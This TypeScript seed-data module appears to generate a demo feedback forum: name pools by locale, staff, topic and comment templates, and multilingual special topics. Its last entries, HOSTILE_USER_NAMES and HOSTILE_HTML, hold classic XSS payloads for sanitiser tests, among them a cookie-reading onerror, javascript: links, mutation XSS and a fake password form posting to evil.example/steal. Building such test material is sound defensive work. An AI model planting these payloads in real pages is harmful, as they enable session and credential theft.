/**
 * Word lists and text templates for the seed. Everything here is plain data; `index.ts` combines
 * it with a seeded PRNG.
 */

/** Name pools per locale, so a user's name, language and e-mail fit together. */
export interface NamePool {
  readonly language: string;
  readonly weight: number;
  readonly first: readonly string[];
  readonly last: readonly string[];
}

export const NAME_POOLS: readonly NamePool[] = [
  {
    language: "en",
    weight: 55,
    first: [
      "Emma",
      "Liam",
      "Olivia",
      "Noah",
      "Ava",
      "James",
      "Sophia",
      "Lucas",
      "Mia",
      "Ethan",
      "Grace",
      "Henry",
      "Chloe",
      "Jack",
      "Ella",
      "Owen",
      "Ruby",
      "Samuel",
      "Zoë",
      "Isaac",
      "Hannah",
      "Daniel",
      "Leah",
      "Nathan",
      "Amara",
      "Conor",
      "Priya",
      "Kwame",
      "Mei",
      "Aisha",
    ],
    last: [
      "Smith",
      "Johnson",
      "Brown",
      "Taylor",
      "Wilson",
      "Davies",
      "Evans",
      "Thomas",
      "Walker",
      "Wright",
      "Robinson",
      "Thompson",
      "Hughes",
      "Green",
      "O'Brien",
      "McAllister",
      "Patel",
      "Nguyen",
      "Okafor",
      "Chen",
      "Hall",
      "Clarke",
      "Lewis",
      "Baker",
      "Turner",
      "Ward",
    ],
  },
  {
    language: "de",
    weight: 10,
    first: [
      "Jonas",
      "Lena",
      "Felix",
      "Anna",
      "Lukas",
      "Marie",
      "Björn",
      "Jürgen",
      "Sophie",
      "Paul",
    ],
    last: [
      "Müller",
      "Schmidt",
      "Schneider",
      "Fischer",
      "Weiß",
      "Köhler",
      "Groß",
      "Becker",
      "Krüger",
    ],
  },
  {
    language: "fr",
    weight: 8,
    first: [
      "Chloé",
      "Léa",
      "Hugo",
      "Théo",
      "Inès",
      "Maël",
      "Céline",
      "François",
      "Noémie",
      "Jérôme",
    ],
    last: ["Martin", "Bernard", "Dubois", "Lefèvre", "Moreau", "Girard", "Rousseau", "Mercier"],
  },
  {
    language: "es",
    weight: 8,
    first: ["José", "María", "Lucía", "Álvaro", "Sofía", "Martín", "Inés", "Raúl", "Ángela"],
    last: ["García", "Fernández", "López", "Martínez", "Sánchez", "Pérez", "Gómez", "Núñez"],
  },
  {
    language: "ru",
    weight: 7,
    first: ["Анна", "Дмитрий", "Ольга", "Сергей", "Мария", "Алексей", "Екатерина", "Иван"],
    last: ["Иванова", "Смирнов", "Кузнецова", "Попов", "Соколова", "Лебедев", "Морозова"],
  },
  {
    language: "pl",
    weight: 4,
    first: ["Łukasz", "Zofia", "Michał", "Agnieszka", "Paweł", "Małgorzata"],
    last: ["Nowak", "Kowalski", "Wiśniewska", "Wójcik", "Kamińska", "Zieliński"],
  },
  {
    language: "nb",
    weight: 3,
    first: ["Søren", "Ingrid", "Håkon", "Astrid", "Bjørn", "Sigrid"],
    last: ["Ødegaard", "Hansen", "Johansen", "Bråten", "Løvås", "Berg"],
  },
  {
    language: "ja",
    weight: 3,
    first: ["Aiko", "Haruto", "Yui", "Ren", "Sakura", "Kenji"],
    last: ["Tanaka", "Suzuki", "Sato", "Watanabe", "Ito", "Yamamoto"],
  },
  {
    language: "pt-br",
    weight: 2,
    first: ["João", "Luíza", "Gabriel", "Beatriz", "Thiago"],
    last: ["Silva", "Conceição", "Araújo", "Gonçalves", "Simões"],
  },
];

export const EMAIL_DOMAINS = ["example.com", "example.org", "example.net", "mail.example.com"];

/** Agents of the demo project; the first one owns the agent token. */
export const STAFF: readonly { readonly name: string; readonly title: string }[] = [
  { name: "Dana Whitfield", title: "Product Manager" },
  { name: "Marco Bellini", title: "Support Lead" },
  { name: "Priya Raman", title: "Software Engineer" },
  { name: "Tom Okafor", title: "Community Manager" },
  { name: "Sofia Lindqvist", title: "Customer Success" },
  { name: "Kenji Watanabe", title: "Developer Advocate" },
];

/**
 * Display names that must be escaped by anyone rendering them. Placed at fixed user ids so tests
 * can find them.
 */
export const HOSTILE_USER_NAMES: ReadonlyMap<number, string> = new Map([
  [13, "Mallory <img src=x onerror=alert('name')>"],
  [66, '"><script>alert("display_name")</script>'],
  [101, "Kai 🚀 Nakamura"],
]);

/** Slot values for the header and sentence templates (`{area}`, `{feature}`, …). */
export const SLOTS: Readonly<Record<string, readonly string[]>> = {
  area: [
    "dashboard",
    "widget",
    "admin panel",
    "mobile app",
    "reports page",
    "inbox",
    "topic list",
    "search results",
    "settings page",
    "knowledge base",
    "sidebar",
    "notification centre",
  ],
  feature: [
    "saved filters",
    "custom fields",
    "two-factor login",
    "a public changelog",
    "an audit log",
    "bulk editing",
    "webhooks",
    "SAML single sign-on",
    "inline images",
    "Markdown support",
    "dark mode",
    "read receipts",
    "canned replies",
    "vote limits",
    "a roadmap view",
  ],
  role: ["agent", "moderator", "guest", "admin", "team lead", "customer"],
  action: [
    "merge duplicate topics",
    "move topics between forums",
    "export all votes",
    "rename a status",
    "reset the vote count",
    "hide a category",
    "pin a topic to the top",
    "invite a teammate",
    "change the forum language",
    "embed the widget in a single-page app",
    "delete a user",
    "set up SSO",
    "restrict voting to logged-in users",
    "archive old topics",
  ],
  object: [
    "reports",
    "votes",
    "comments",
    "user lists",
    "invoices",
    "tickets",
    "statuses",
    "tags",
    "topics",
    "attachments",
  ],
  format: ["CSV", "Excel", "PDF", "JSON"],
  integration: [
    "Slack",
    "Jira",
    "Zapier",
    "Salesforce",
    "Intercom",
    "GitHub",
    "Trello",
    "Microsoft Teams",
    "HubSpot",
  ],
  condition: [
    "there are more than 1,000 topics",
    "a filter is applied",
    "the page is opened in Safari",
    "a comment contains an image",
    "two agents edit the same topic",
    "the user signs in with SSO",
    "the browser language is not English",
    "the list is sorted by votes",
  ],
  event: [
    "changing my password",
    "the last update",
    "enabling SSO",
    "switching the language",
    "renaming the project",
    "upgrading our plan",
  ],
  platform: ["iOS", "Android", "iPadOS", "Android tablets"],
};

/** Header templates per topic-type name. */
export const HEADER_TEMPLATES: Readonly<Record<string, readonly string[]>> = {
  Ideas: [
    "Add {feature} to the {area}",
    "Allow each {role} to {action}",
    "Export {object} to {format}",
    "Support {integration} integration",
    "Dark mode for the {area}",
    "Keyboard shortcuts in the {area}",
    "Bulk actions for {object}",
    "Let us schedule {object}",
    "Show vote totals in the {area}",
    "Offer {feature} on every plan",
    "Sync {object} with {integration}",
  ],
  Problems: [
    "The {area} is slow when {condition}",
    "Cannot {action} after {event}",
    "{integration} sync fails with a timeout",
    "Notification e-mails are not sent when {condition}",
    "The {area} freezes when {condition}",
    "Wrong time zone on {object}",
    "{format} export drops accented characters",
    "Error 500 when I try to {action}",
  ],
  Questions: [
    "How do I {action}?",
    "Is it possible to {action}?",
    "Where can I find archived {object}?",
    "Can a {role} {action}?",
    "Does the {integration} integration support {object}?",
  ],
  Praise: [
    "Love the new {area}!",
    "Great job on {feature}",
    "The {integration} integration is a time saver",
  ],
  Articles: [
    "Getting started with {feature}",
    "How to {action}",
    "Troubleshooting {integration} sync",
    "Exporting {object} to {format}",
    "Understanding the {area}",
  ],
  "App ideas": [
    "Offline mode on {platform}",
    "Home-screen widget for {platform}",
    "Face ID login on {platform}",
    "Push notifications for new {object}",
    "Share {object} from the {platform} app",
  ],
  Crashes: [
    "App crashes on {platform} when {condition}",
    "Blank screen after {event} on {platform}",
    "{platform} app logs me out every day",
    "Push notifications stopped on {platform}",
  ],
  Announcements: ["What's new: {feature}"],
};

/** Sentences for topic descriptions, per topic-type name ("*" = any type). */
export const BODY_SENTENCES: Readonly<Record<string, readonly string[]>> = {
  "*": [
    "We use UserEcho for our whole support team.",
    "This comes up in almost every customer call.",
    "Happy to share more details if needed.",
    "Our team has about 40 agents, so small things add up quickly.",
  ],
  Ideas: [
    "It would save our team hours every week.",
    "Right now we have to do this by hand for all {object}.",
    "Several competitors already offer this.",
    "Ideally it would also work in the {area}.",
    "Happy to beta-test this if it helps.",
    "A simple toggle in the settings page would be enough for us.",
  ],
  Problems: [
    "Steps to reproduce: open the {area}, apply a filter, then reload the page.",
    "It started after {event}.",
    "Tried Chrome and Firefox, same result.",
    "Clearing the cache does not help.",
    "Expected: the list loads in a second. Actual: it spins forever.",
    "The browser console shows a 500 response from the API.",
  ],
  Questions: [
    "I could not find this in the documentation.",
    "We are on the Pro plan, if that matters.",
    "Thanks in advance!",
    "Is there an API endpoint for this as well?",
  ],
  Praise: ["Just wanted to say thank you.", "Our customers noticed the difference immediately."],
  Articles: [
    "This article walks you through the setup step by step.",
    "You need admin rights for the steps below.",
    "Changes take effect immediately; no reload is needed.",
  ],
};

/** Comment sentences for ordinary users and for staff. */
export const COMMENT_SENTENCES = {
  user: [
    "+1, we need this too.",
    "Any update on this?",
    "Same problem here since Tuesday.",
    "Thanks for the quick reply!",
    "We found a workaround: export to CSV and re-import.",
    "This would be a game changer for our team.",
    "Still happening on our side, unfortunately.",
    "Could you share an ETA?",
    "Voted. Our managers ask for this every month.",
  ],
  staff: [
    "Thanks for the suggestion! We have added this to our roadmap.",
    "This is fixed in version 4.2. Please clear your browser cache and try again.",
    "You can do this under Settings → Forums → General.",
    "We are looking into it and will post an update here.",
    "Could you send us the URL of the affected page through the help desk?",
  ],
  international: [
    "Merci beaucoup, ça marche !",
    "Спасибо, теперь всё работает!",
    "Danke für die schnelle Antwort 👍",
    "¡Gracias! 🙌",
    "Dziękuję, działa świetnie.",
    "ありがとうございます！",
  ],
} as const;

/** Headers and bodies in other languages or with characters that need escaping. */
export const SPECIAL_TOPICS: readonly { readonly header: string; readonly body: string }[] = [
  {
    header: "Prise en charge du français dans les e-mails",
    body: "Les notifications arrivent toujours en anglais, même si la langue du forum est le français.",
  },
  {
    header: "Übersetzung der Statusnamen ins Deutsche",
    body: "Die Statusnamen „Planned“ und „Started“ werden nicht übersetzt.",
  },
  {
    header: "Поддержка русского языка в виджете",
    body: "Виджет показывает кнопки на английском. Хотелось бы видеть интерфейс на русском.",
  },
  {
    header: "Emoji reactions on comments 🎉👍",
    body: 'A quick 👍 or ❤️ would replace many "+1" comments.',
  },
  {
    header: "日本語の検索が機能しない",
    body: "検索ボックスに日本語を入力しても結果が表示されません。",
  },
  {
    header: "Titles show <b>tags</b> literally",
    body: "If a title contains &lt;b&gt; it should stay text, never become markup.",
  },
  {
    header: 'Search for "<script>" breaks the page',
    body: "Typing &lt;script&gt; &amp; quotes into search shows a blank page.",
  },
  {
    header: "Café-Menü: accents are shown as Ã©",
    body: "Looks like a double UTF-8 encoding somewhere.",
  },
];

/**
 * Hostile HTML fragments, each a classic XSS or UI-redress vector. Every tenth topic (and some
 * comments) embeds one so sanitiser tests have real material.
 */
export const HOSTILE_HTML: readonly { readonly name: string; readonly html: string }[] = [
  { name: "script", html: "<script>alert('xss')</script>" },
  { name: "img-onerror", html: '<img src="x" onerror="alert(document.cookie)">' },
  { name: "javascript-link", html: '<a href="javascript:alert(1)">see the mock-up</a>' },
  {
    name: "data-link",
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">report</a>',
  },
  { name: "iframe", html: '<iframe src="https://evil.example/frame"></iframe>' },
  { name: "style", html: "<style>body { display: none !important; }</style>" },
  {
    name: "form",
    html: '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Log in again</button></form>',
  },
  { name: "svg-onload", html: '<svg onload="alert(1)"><circle r="10"></circle></svg>' },
  { name: "onclick", html: '<span onclick="alert(1)" style="cursor:pointer">click me</span>' },
  { name: "mixed-case-javascript", html: '<a href=" JaVaScRiPt:alert(1)">docs</a>' },
  { name: "object", html: '<object data="https://evil.example/x.swf"></object>' },
  {
    name: "meta-refresh",
    html: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  },
  { name: "base", html: '<base href="https://evil.example/">' },
  {
    name: "mutation-xss",
    html: "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  },
  { name: "entity-javascript", html: '<a href="&#106;avascript:alert(1)">encoded</a>' },
];
